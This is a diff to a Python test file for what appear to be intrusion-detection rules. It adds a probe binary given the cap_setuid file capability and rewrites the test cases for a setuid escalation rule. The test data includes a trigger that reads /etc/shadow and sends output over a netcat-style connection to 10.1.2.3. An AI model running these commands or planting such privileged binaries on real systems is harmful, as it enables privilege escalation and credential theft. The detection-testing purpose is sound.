@@ -44,12 +44,18 @@ REFUSED = LOOP.replace("{cmd}", USER + "/usr/local/bin/probe root /bin/true")
 
 
 def _setuid_probe(c):
-    """/usr/local/bin/rootprobe: the probe helper, setuid root (tests/helpers/probe.c)."""
+    """/usr/local/bin/rootprobe: the probe helper, setuid root (tests/helpers/probe.c), and
+    /usr/local/bin/capprobe: the probe with the file capability cap_setuid (setcap
+    cap_setuid+ep: a version-2 security.capability xattr, effective, CAP_SETUID = 7)."""
     import shutil
+    import struct
     dst = os.path.join(c.rootfs, "usr/local/bin/rootprobe")
     shutil.copy2(os.path.join(c.rootfs, "usr/local/bin/probe"), dst)
     os.chown(dst, 0, 0)
     os.chmod(dst, 0o4755)
+    cap = os.path.join(c.rootfs, "usr/local/bin/capprobe")
+    shutil.copy2(os.path.join(c.rootfs, "usr/local/bin/probe"), cap)
+    os.setxattr(cap, "security.capability", struct.pack("<IIIII", 0x02000001, 1 << 7, 0, 0, 0))
 
 
 # rule -> (trigger script, near-miss script, setup run from the host before both)
@@ -69,7 +75,8 @@ CASES = {
                                           USER + "/usr/local/bin/probe touch /tmp/x; "
                                           "/usr/local/bin/rootprobe root /bin/true",
                                           _setuid_probe),
-    "Root gained through a setuid call": (USER + "/usr/local/bin/rootprobe root /bin/true",
+    "Root gained through a setuid call": (USER + "/usr/local/bin/capprobe root /bin/true",
+                                          USER + "/usr/local/bin/rootprobe root /bin/true; "
                                           "/usr/local/bin/probe root /bin/true", _setuid_probe),
     "Repeated failed privilege changes": (REFUSED.format(n=6), REFUSED.format(n=1), None),
     "Credential read then sent out": ("cat /etc/shadow > /dev/null; " + NC.format("10.1.2.3", 443),
